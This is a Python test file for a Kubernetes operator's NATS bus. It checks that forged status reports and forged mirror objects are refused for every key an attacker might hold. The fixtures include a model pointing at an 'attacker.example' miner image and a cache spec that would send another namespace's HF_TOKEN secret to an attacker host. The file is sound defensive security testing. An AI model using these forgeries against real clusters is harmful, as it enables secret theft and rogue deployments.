"""The three forgeries that once worked against the running operator, each refused now.

Before the bus was authenticated, a plain NATS client with no credentials could (1) publish a status
report that turned a Failed AIMService in another namespace into Running, (2) put an AIMModel into
the object mirror that made the deployer run an image of its choosing, and (3) put an AIMModelCache
into the mirror that made the cache service send a Secret of another namespace to its server. Here
each is tried against the session's running services by every client an attacker could plausibly
hold: none (anonymous), a download Job's key (readable in the user's namespace), aimctl's reader key,
and a service's own key (one compromised service must not be able to impersonate the watcher)."""

from __future__ import annotations

import asyncio
import contextlib
import json
from typing import Any

import pytest
from nats.aio.client import Client as NatsClient
from nats.errors import Error as NatsError
from nats.js.errors import KeyDeletedError, KeyNotFoundError, NotFoundError

from aim_dev.testing.plugin import LocalServers, connect_as
from aimcore.api.bus import subjects, topology
from aimcore.api.bus.messages import ChangeEvent, ChangeType, ConditionReport, ObjectRef, StatusReport
from aimcore.api.kinds import by_kind
from aimcore.runtime import Kube
from tests.helpers import (
    REFUSAL_MARKER,
    condition,
    eventually,
    has,
    manifest,
    refusals_settled,
    refused_connection,
    status_of,
)

AIMSVC = by_kind("aim.eai.amd.com", "AIMService")
AIMMODEL = by_kind("aim.eai.amd.com", "AIMModel")
MODEL_CACHE = by_kind("aim.eai.amd.com", "AIMModelCache")
STOLEN_KEYS = ("download", "reader", "deployer", "cache")
"""Keys outside the watcher: a Job's, aimctl's, and two services' (reporting status is a service's
job, so the status forgery is tried with the keys that may not)."""


async def test_no_credentials_no_connection(aim_servers: LocalServers) -> None:
    assert "Authorization Violation" in await refused_connection(aim_servers.nats.url, connect_timeout=3)


async def attempt(servers: LocalServers, role: str, forge: Any) -> list[str]:
    """Run ``forge(nc)`` as ``role``; the permission violations the server answered with."""
    errors: list[str] = []

    async def on_error(exc: Exception) -> None:
        errors.append(str(exc))

    nc: NatsClient = await connect_as(servers.nats, role, on_error=on_error)
    try:
        with contextlib.suppress(NatsError, TimeoutError):
            async with asyncio.timeout(3):
                await forge(nc)
        await refusals_settled(nc, errors)  # a flush is no barrier for refusals
    finally:
        await nc.close()
    return [e for e in errors if "permissions violation" in e and REFUSAL_MARKER not in e]


async def last_seq(js: Any, stream: str, subject: str) -> int | None:
    try:
        return (await js.get_last_msg(stream, subject)).seq  # type: ignore[no-any-return]
    except NotFoundError:
        return None


def _forged_running(failed: dict[str, Any], namespace: str, **extra: Any) -> StatusReport:
    """A report "from the deployer" that would turn the Failed service into Running/Ready."""
    return StatusReport(
        object=ObjectRef.of(AIMSVC, namespace, "victim"),
        uid=failed["metadata"]["uid"],
        source="deployer",
        observed_generation=extra.pop("observed_generation", failed["metadata"]["generation"]),
        conditions=tuple(
            ConditionReport(type=t, status="True", reason="Forged")
            for t in ("ModelReady", "TemplateReady", "InferenceServiceReady", "InferenceServicePodsReady")
        ),
        fields={"status": "Running", "routing": {"path": "/forged"}},
    )


async def _victim(kube: Kube, namespace: str) -> dict[str, Any]:
    await kube.create(AIMSVC, manifest(AIMSVC, "victim", namespace, {"model": {"name": "absent"}}), namespace)
    failed: dict[str, Any] = await status_of(
        kube, AIMSVC, namespace, "victim", lambda s: s.get("status") == "Failed", "Failed"
    )
    return failed


def _unforged(obj: dict[str, Any] | None) -> bool:
    status = (obj or {}).get("status") or {}
    return (
        status.get("status") == "Failed"
        and "routing" not in status
        and condition(status, "ModelReady").get("reason") != "Forged"
    )


FORGERS = ("download", "reader", "discovery", "cache", "registry-sync")
"""Every key but the deployer's: none may speak for the deployer, under its name or their own."""


@pytest.mark.parametrize("under", ("deployer", "own"))
@pytest.mark.parametrize("role", FORGERS)
async def test_a_forged_status_report_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str, under: str
) -> None:
    """Before, every service could publish anywhere under ``aim.status`` and the status service
    believed the payload's ``source``: discovery's key turned a Failed AIMService into Running/Ready
    with a forged ``routing.path``. Now a report's subject names its service, and the server lets a
    service publish only under its own name, for the kinds it owns."""
    failed = await _victim(kube, namespace)
    name = "deployer" if under == "deployer" else role
    subject = subjects.status_subject(name, AIMSVC, namespace, "victim")
    before = await last_seq(js, topology.STATUS_STREAM, subject)
    forged = _forged_running(failed, namespace)

    async def forge(nc: NatsClient) -> None:
        await nc.jetstream().publish(subject, forged.encode(), headers={"Nats-Msg-Id": "forged"}, timeout=2)

    assert await attempt(aim_servers, role, forge), "the server did not refuse the forged report"
    assert await last_seq(js, topology.STATUS_STREAM, subject) == before  # nothing reached the stream
    assert _unforged(await kube.get(AIMSVC, namespace, "victim"))


async def _handled(js: Any, seq: int) -> bool:
    """The status service has acknowledged every report up to stream sequence ``seq``."""
    info = await js.consumer_info(topology.STATUS_STREAM, "aim-status")
    return bool(info.ack_floor.stream_seq >= seq)


async def test_the_status_service_takes_the_source_from_the_subject(
    running: Any, kube: Kube, namespace: str, js: Any
) -> None:
    """Defence in depth, whatever the server's configuration: a report that reaches the stream
    under discovery's name (here with the admin key, which the server lets through) is not
    believed to be the deployer's, whatever its payload says."""
    failed = await _victim(kube, namespace)
    forged = _forged_running(failed, namespace)
    subject = subjects.status_subject("discovery", AIMSVC, namespace, "victim")
    seq = (await js.publish(subject, forged.encode())).seq
    elsewhere = subjects.status_subject("deployer", AIMSVC, namespace, "other-name")
    seq2 = (await js.publish(elsewhere, forged.encode())).seq  # the payload names another object
    await eventually(lambda: _handled(js, max(seq, seq2)), timeout=30, what="the status service")
    assert _unforged(await kube.get(AIMSVC, namespace, "victim"))


async def test_a_report_from_the_future_is_ignored_and_the_object_keeps_converging(
    running: Any, kube: Kube, namespace: str, js: Any
) -> None:
    """Before: a report claiming ``observed_generation: 1000`` was applied and kept the object at
    observedGeneration 1000; after a real spec change every real report was discarded as stale, and
    the forged status stayed for minutes. A generation the object never had is refused now, even
    under the owner's own name (the deployer's key, or any key the server let through)."""
    failed = await _victim(kube, namespace)
    forged = _forged_running(failed, namespace, observed_generation=1000)
    subject = subjects.status_subject("deployer", AIMSVC, namespace, "victim")
    seq = (await js.publish(subject, forged.encode())).seq
    await eventually(lambda: _handled(js, seq), timeout=30, what="the status service")
    obj = await kube.get(AIMSVC, namespace, "victim")
    assert _unforged(obj)
    assert obj is not None and obj["status"]["observedGeneration"] == obj["metadata"]["generation"]
    await kube.patch(AIMSVC, namespace, "victim", {"spec": {"model": {"name": "still-absent"}}})

    def current(status: dict[str, Any]) -> bool:
        return "still-absent" in condition(status, "ModelReady").get("message", "")

    moved = await status_of(kube, AIMSVC, namespace, "victim", current, "the new spec's status")
    assert moved["status"]["observedGeneration"] == moved["metadata"]["generation"] == 2


async def test_a_status_an_earlier_forgery_locked_is_unlocked(
    running: Any, kube: Kube, namespace: str
) -> None:
    """An object whose status a forged report wrote before this release (observedGeneration 1000 on
    the object and its conditions) converges again: a generation above the object's is dropped."""
    failed = await _victim(kube, namespace)
    status = dict(failed["status"])
    status["observedGeneration"] = 1000
    status["conditions"] = [{**c, "observedGeneration": 1000} for c in status["conditions"]]
    await kube.patch_status(AIMSVC, namespace, "victim", {"status": status})
    await kube.patch(AIMSVC, namespace, "victim", {"spec": {"model": {"name": "still-absent"}}})

    def healed(status: dict[str, Any]) -> bool:
        return status.get("observedGeneration") == 2 and all(
            c.get("observedGeneration", 0) <= 2 for c in status.get("conditions") or []
        )

    await status_of(kube, AIMSVC, namespace, "victim", healed, "observedGeneration back at 2")


def _mirror_forgery(ref: Any, namespace: str, name: str, body: dict[str, Any]) -> Any:
    key = subjects.object_key(ref, namespace, name)
    obj = {**body, "metadata": {**body["metadata"], "uid": "forged-uid", "resourceVersion": "999999999"}}
    event = ChangeEvent(
        object=ObjectRef.of(ref, namespace, name),
        uid="forged-uid",
        resource_version="999999999",
        change=ChangeType.ADDED,
    )

    async def forge(nc: NatsClient) -> None:
        js = nc.jetstream()
        writes = (
            (f"$KV.{topology.OBJECTS_BUCKET}.{key}", json.dumps(obj).encode()),
            (subjects.event_subject(ref, namespace, name), event.encode()),
        )
        for subject, data in writes:  # each tried, whatever became of the other
            with contextlib.suppress(NatsError, TimeoutError):
                await js.publish(subject, data, timeout=2)

    return key, forge


async def _not_mirrored(js: Any, key: str) -> bool:
    kv = await topology.objects_bucket(js)
    try:
        await kv.get(key)
    except (KeyNotFoundError, KeyDeletedError):
        return True
    return False


@pytest.mark.parametrize("role", STOLEN_KEYS)
async def test_a_forged_model_in_the_mirror_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str
) -> None:
    """The forged model would name the attacker's image; the service would then deploy it."""
    body = manifest(AIMMODEL, "evil", namespace, {"image": "attacker.example/miner:latest"})
    key, forge = _mirror_forgery(AIMMODEL, namespace, "evil", body)
    violations = await attempt(aim_servers, role, forge)
    assert any("$kv.aim-objects" in v for v in violations), violations
    assert any("aim.events" in v for v in violations), violations
    assert await _not_mirrored(js, key)
    assert await kube.get(AIMMODEL, namespace, "evil") is None


@pytest.mark.parametrize("role", STOLEN_KEYS)
async def test_a_forged_model_cache_in_the_mirror_is_refused(  # noqa: PLR0917
    running: Any, aim_servers: LocalServers, kube: Kube, namespace: str, js: Any, role: str
) -> None:
    """The forged cache would name a Secret of another namespace and the attacker's server."""
    spec = {
        "sourceUri": "hf://attacker/model",
        "env": [
            {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "other-teams-token", "key": "t"}}},
            {"name": "HF_ENDPOINT", "value": "http://attacker.example"},
        ],
    }
    key, forge = _mirror_forgery(
        MODEL_CACHE, namespace, "exfiltrate", manifest(MODEL_CACHE, "exfiltrate", namespace, spec)
    )
    violations = await attempt(aim_servers, role, forge)
    assert any("$kv.aim-objects" in v for v in violations), violations
    assert await _not_mirrored(js, key)


async def test_a_real_change_still_flows(running: Any, kube: Kube, namespace: str) -> None:
    """The control: the same kinds of objects, created for real, are mirrored and reconciled."""
    await kube.create(AIMSVC, manifest(AIMSVC, "real", namespace, {"model": {"name": "absent"}}), namespace)
    await status_of(
        kube, AIMSVC, namespace, "real", has("ModelReady", "False", "ModelNotFound"), "ModelNotFound"
    )
